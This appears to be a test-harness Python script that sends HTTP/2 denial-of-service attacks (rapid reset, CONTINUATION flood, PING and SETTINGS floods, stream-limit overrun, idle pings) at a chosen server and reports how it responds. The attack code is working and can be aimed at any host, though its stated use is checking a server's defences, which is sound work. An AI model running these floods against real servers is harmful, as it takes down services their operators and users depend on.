"""HTTP/2 abuse against a real server, with the `h2` and `hyperframe` libraries
(python-hyper): the protocol state machine and frame encoding are theirs, the
misbehaviour is ours. For the end-to-end tests.

    python3 abuse.py HOST PORT PATH ATTACK [--count N]

ATTACK is one of
  rapid-reset   open a stream and reset it at once, N times ("rapid reset")
  continuation  a HEADERS frame never ended, followed by CONTINUATION frames of
                junk header block until the server stops reading or N are sent
  ping-flood    N PING frames, never reading the answers until the end
  settings-flood N SETTINGS frames, never reading the answers until the end
  streams       read the server's SETTINGS, then open N streams at once
  idle-pings    a PING every 100 ms and no request, until the server closes or N

Prints one JSON object: whether the server closed the connection (GOAWAY or EOF),
its GOAWAY error code, what was sent, and what the server advertised.
"""
import argparse
import json
import socket
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)


class Client:
    def __init__(self, host, port, path):
        self.sock = socket.create_connection((host, port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(
            config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.path = path
        self.authority = f"{host}:{port}"
        self.closed = False
        self.goaway = None
        self.remote_max_streams = None
        self.responses = 0
        self.refused = 0
        self.sent_bytes = 0
        self.conn.initiate_connection()
        self.flush()

    def headers(self, end_stream=True):
        return [
            (":method", "GET"),
            (":path", self.path),
            (":scheme", "http"),
            (":authority", self.authority),
        ]

    def flush(self):
        data = self.conn.data_to_send()
        self.send_raw(data)

    def send_raw(self, data):
        if not data or self.closed:
            return
        try:
            self.sock.sendall(data)
            self.sent_bytes += len(data)
        except OSError:
            self.closed = True

    def pump(self, timeout):
        """Read what the server sent within `timeout`; returns False once closed."""
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(65536)
        except socket.timeout:
            return True
        except OSError:
            self.closed = True
            return False
        if not data:
            self.closed = True
            return False
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed = True
            return False
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = event.error_code
                self.closed = True
            elif isinstance(event, h2.events.RemoteSettingsChanged):
                setting = event.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
                if setting is not None:
                    self.remote_max_streams = setting.new_value
            elif isinstance(event, h2.events.ResponseReceived):
                self.responses += 1
            elif isinstance(event, h2.events.StreamReset):
                self.refused += 1
        try:
            self.flush()
        except Exception:
            pass
        return not self.closed

    def drain(self, seconds):
        end = time.time() + seconds
        while time.time() < end and self.pump(0.2):
            pass


def rapid_reset(client, count):
    sent = 0
    for _ in range(count):
        if client.closed:
            break
        stream = client.conn.get_next_available_stream_id()
        client.conn.send_headers(stream, client.headers(), end_stream=True)
        client.conn.reset_stream(stream)
        client.flush()
        sent += 1
        if sent % 100 == 0:
            client.pump(0.001)
    client.drain(3)
    return {"streams_reset": sent}


def continuation(client, count):
    client.drain(0.3)
    stream = client.conn.get_next_available_stream_id()
    first = HeadersFrame(stream)
    first.flags.add("END_STREAM")
    # A valid start of a header block: `:method: GET` from the static table.
    first.data = b"\x82"
    client.send_raw(first.serialize())
    sent = 0
    junk = b"\x40\x0ax-flooding" + b"\x7f\x81\x7f" + b"a" * 16000
    for _ in range(count):
        if client.closed:
            break
        frame = ContinuationFrame(stream)
        frame.data = junk
        client.send_raw(frame.serialize())
        sent += 1
        if sent % 8 == 0:
            client.pump(0.001)
    client.drain(3)
    return {"continuation_frames": sent}


def flood(client, count, make):
    client.drain(0.3)
    sent = 0
    batch = b"".join(make(i).serialize() for i in range(100))
    while sent < count and not client.closed:
        client.send_raw(batch)
        sent += 100
    client.drain(3)
    return {"frames": sent}


def ping(i):
    frame = PingFrame(0)
    frame.opaque_data = i.to_bytes(8, "big")
    return frame


def settings(_):
    frame = SettingsFrame(0)
    frame.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}
    return frame


def streams(client, count):
    """Open `count` streams at once, ignoring the server's cap (raw frames: the
    library would keep to it), and count the server's answers frame by frame."""
    client.drain(0.5)
    block = client.conn.encoder.encode(client.headers())
    frames = []
    for index in range(count):
        frame = HeadersFrame(1 + 2 * index)
        frame.flags.add("END_HEADERS")
        frame.data = block
        frames.append(frame.serialize())
    client.send_raw(b"".join(frames))
    buffer = b""
    refused = 0
    end = time.time() + 3
    client.sock.settimeout(0.2)
    while time.time() < end:
        try:
            data = client.sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            client.closed = True
            break
        if not data:
            client.closed = True
            break
        buffer += data
        while len(buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
            if len(buffer) < 9 + length:
                break
            body = buffer[9 : 9 + length]
            buffer = buffer[9 + length :]
            if isinstance(frame, RstStreamFrame):
                frame.parse_body(memoryview(body))
                if frame.error_code == 7:
                    refused += 1
            elif isinstance(frame, GoAwayFrame):
                frame.parse_body(memoryview(body))
                client.goaway = frame.error_code
                client.closed = True
    client.refused = refused
    return {"streams_opened": count}


def idle_pings(client, count):
    """A PING every 100 ms and nothing else, for up to `count` pings."""
    client.drain(0.3)
    started = time.time()
    for i in range(count):
        if client.closed:
            break
        client.send_raw(ping(i).serialize())
        time.sleep(0.1)
        client.pump(0.01)
    return {"open_for_s": round(time.time() - started, 2)}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("path")
    parser.add_argument("attack")
    parser.add_argument("--count", type=int, default=10000)
    args = parser.parse_args()
    client = Client(args.host, args.port, args.path)
    attacks = {
        "rapid-reset": lambda: rapid_reset(client, args.count),
        "continuation": lambda: continuation(client, args.count),
        "ping-flood": lambda: flood(client, args.count, ping),
        "settings-flood": lambda: flood(client, args.count, settings),
        "streams": lambda: streams(client, args.count),
        "idle-pings": lambda: idle_pings(client, args.count),
    }
    result = attacks[args.attack]()
    result.update(
        closed=client.closed,
        goaway=None if client.goaway is None else int(client.goaway),
        sent_bytes=client.sent_bytes,
        responses=client.responses,
        resets=client.refused,
        max_concurrent_streams=client.remote_max_streams,
    )
    print(json.dumps(result))


if __name__ == "__main__":
    main()
